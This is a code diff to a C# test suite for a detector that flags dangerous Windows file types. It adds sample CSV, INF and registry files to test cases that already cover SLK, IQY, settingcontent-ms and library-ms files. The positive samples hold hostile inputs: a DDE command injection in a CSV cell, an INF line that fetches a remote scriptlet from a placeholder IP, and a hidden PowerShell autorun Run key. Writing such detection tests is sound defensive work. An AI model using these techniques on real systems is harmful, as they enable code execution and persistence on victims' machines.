@@ -29,6 +29,9 @@ public sealed class ShortcutsStageTests
         HeuristicCase.Of(QueryCommand, "a.iqy", "WEB\r\n1\r\nhttp://192.0.2.1/a.dat\r\n", "WEB\r\n1\r\nhttp://investor.msn.com/q.asp\r\n", "WEB\r\n1\r\nC:\\local.html\r\n", "WEB\r\nsite\r\nhttp://192.0.2.1/\r\n"),
         HeuristicCase.Of(SheetExec, "a.slk", "ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1;KOut Flank;F\r\nC;X1;Y101;EEXEC(\"cmd.exe\")\r\nE\r\n", "ID;PWXL;N;E\r\nC;X1;Y1;K\"exec\"\r\nE\r\n",
             "ID;PWXL;N;E\r\nC;X1;Y1;ESUM(R1C1)\r\nE\r\n", "ID;PWXL;N;E\r\nC;X1;Y1;K\"call (me)\"\r\nE\r\n"),
+        HeuristicCase.Of(CellCommand, "a.csv", "Name,Sum\r\nAnn,=cmd|'/C calc'!A0\r\nBob,2\r\n", "Name,Sum\r\nAnn,=SUM(A1:A2)\r\nBob,2\r\n", "Name,Sum\r\nAnn,cmd|x\r\nBob,2\r\n", "Name,Sum\r\nAnn,-1|2\r\nBob,2\r\n"),
+        HeuristicCase.Of(InfScriptlet, "a.inf", Inf("%11%\\scrobj.dll,NI,http://192.0.2.1/a.sct"), Inf("%11%\\scrobj.dll"), Inf("%11%\\driver.dll"), Inf("; http://192.0.2.1/a.sct")),
+        HeuristicCase.Of(RegistryStart, "a.reg", Reg("Run", "powershell.exe -w hidden -f C:\\\\a.ps1"), Reg("Run", "C:\\\\Program Files\\\\App\\\\app.exe"), Reg("Explorer", "powershell.exe -f a.ps1"), Reg("Run", "")),
         HeuristicCase.Of(SettingExec, "a.settingcontent-ms", Setting("%windir%\\system32\\cmd.exe /c calc"), Setting("%windir%\\system32\\control.exe"), Setting("ms-settings:display"), Setting("C:\\cmd\\app.exe")),
         HeuristicCase.Of(RemoteLibrary, "a.library-ms", Library("\\\\192.0.2.1\\share"), Library("shell:Documents"), Library("C:\\Docs"), Library("knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}")),
     ];
@@ -56,6 +59,11 @@ public sealed class ShortcutsStageTests
 
     private static HeuristicCase Lnk(Heuristic heuristic, LinkBuilder positive, params LinkBuilder[] negatives) =>
         new(heuristic, new("a.lnk", positive.Build()), [.. negatives.Select(link => new SampleFile("a.lnk", link.Build()))]);
+
+    private static string Inf(string line) => $"[version]\r\nSignature=$chicago$\r\nAdvancedINF=2.5\r\n[DefaultInstall]\r\nUnRegisterOCXs=Reg\r\n[Reg]\r\n{line}\r\n";
+
+    private static string Reg(string key, string command) =>
+        $"Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\{key}]\r\n\"a\"=\"{command}\"\r\n";
 
     private static string Setting(string deepLink) =>
         $"<?xml version=\"1.0\"?><PCSettings><SearchableContent xmlns=\"http://schemas.microsoft.com/Search/2013/SettingContent\"><ApplicationInformation><DeepLink>{deepLink}</DeepLink></ApplicationInformation></SearchableContent></PCSettings>";
